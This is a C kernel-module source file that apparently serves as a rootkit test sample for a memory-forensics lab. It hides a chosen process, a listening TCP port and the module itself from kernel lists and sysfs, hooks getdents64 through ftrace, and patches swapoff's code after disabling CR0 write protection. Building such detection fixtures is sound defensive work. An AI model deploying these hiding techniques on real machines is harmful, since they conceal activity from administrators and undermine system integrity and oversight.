/* SPDX-License-Identifier: Apache-2.0
 * hider (to be loaded as "GPL": it calls functions that ask for that): what a rootkit does to its kernel, for the
 * emulated kernel of tests/lab alone; in no package of memir.
 * insmod hider.ko pid=PID port=PORT: takes a process out of the task list and the pid IDR, a listening TCP port out of
 * its hash table, itself out of the list of modules and sysfs; hooks a system call by ftrace and one by its text. */
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <net/inet_hashtables.h>
#include <net/tcp.h>

static int pid, port;
module_param(pid, int, 0);
module_param(port, int, 0);
MODULE_LICENSE("GPL");

static void notrace traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs) { }
static struct ftrace_ops ops = {.func = traced};
static noinline long instead(const struct pt_regs *regs) { return -ENOSYS; }

static void *address(const char *name)
{
	struct kprobe probe = {.symbol_name = name};
	void *at;
	if (register_kprobe(&probe)) return NULL;
	at = probe.addr;
	unregister_kprobe(&probe);
	return at;
}
static void patch(u8 *at)
{
	u8 code[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}; /* movabs rax; jmp rax */
	unsigned long cr0, flags, to = (unsigned long)instead;
	memcpy(code + 2, &to, 8);
	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" :: "r"(cr0 & ~0x10000ul) : "memory");
	memcpy(at, code, sizeof code);
	asm volatile("mov %0, %%cr0" :: "r"(cr0) : "memory");
	local_irq_restore(flags);
}
static int __init hide(void)
{
	struct pid_namespace *ns = task_active_pid_ns(current);
	struct pid *number = find_get_pid(pid);
	struct task_struct *task = get_pid_task(number, PIDTYPE_PID);
	struct sock *sk = __inet_lookup_listener(&init_net, &tcp_hashinfo, NULL, 0, 0, 0, 0, port, 0, 0);
	void *call = address("__x64_sys_swapoff");
	char name[] = "__x64_sys_getdents64";
	if (!task || !sk || !call) return -ESRCH;
	if (ftrace_set_filter(&ops, name, strlen(name), 0) || register_ftrace_function(&ops)) return -EINVAL;
	patch(call);
	pr_info("hider: @TOLD {\"what\":\"hider\",\"pid\":%d,\"port\":%d,\"traced\":\"%s\",\"text\":\"%px\",\"ops\":\"%px\"}\n", pid, port, name, call, &ops);
	list_del_init(&task->tasks);
	idr_remove(&ns->idr, pid);
	hlist_nulls_del_init_rcu(&sk->sk_nulls_node);
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}
module_init(hide);
